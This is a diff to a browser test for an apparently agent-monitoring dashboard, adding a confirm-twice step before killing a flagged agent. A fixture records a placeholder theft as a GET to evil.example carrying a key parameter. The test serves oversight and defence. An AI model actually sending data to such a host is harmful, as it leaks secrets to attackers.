@@ -101,6 +101,7 @@ def test_what_needs_a_person_is_first(page, fake):
     fake.change("c0000001", thefts=1, last_theft={"time": at(20), "what": "GET https://evil.example/?k=" + SCRIPT, "why": "a placeholder"})
     page.see(".alarm h2:has-text('2 agents')")
     page.click(".alarm li:has-text('docs-crawler-1') button:text-is('Kill')")
+    page.click(".alarm li:has-text('docs-crawler-1') button:text-is('Press again to kill')")
     assert fake.await_asked("/v1/cells/c0000001/kill")
     page.click(".alarm button:text-is('I have seen it')")
     page.gone(".alarm")
